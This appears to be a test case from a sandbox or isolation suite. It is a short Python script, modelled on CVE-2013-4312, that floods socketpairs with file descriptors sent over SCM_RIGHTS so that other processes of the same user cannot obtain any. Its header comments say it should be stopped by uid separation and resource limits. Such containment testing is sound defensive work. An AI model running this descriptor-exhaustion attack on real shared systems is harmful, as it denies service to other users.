# tries: has so many descriptors of its user under way that nobody else of that user can send any
# stopped by: own_uid, rlimits
# holds: true
# like: CVE-2013-4312

import array, socket
sent = 0
pairs = []
try:
    for _ in range(400):
        a, b = socket.socketpair()
        a.setblocking(False)
        pairs.append((a, b))
        for _ in range(20):
            fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
            try:
                a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])
                sent += 100
            except OSError:
                break
            finally:
                for fd in fds:
                    os.close(fd)
        else:
            continue
        if sent > 5000:
            break
except OSError as error:
    print(sent, error.strerror, flush=True)
hold()
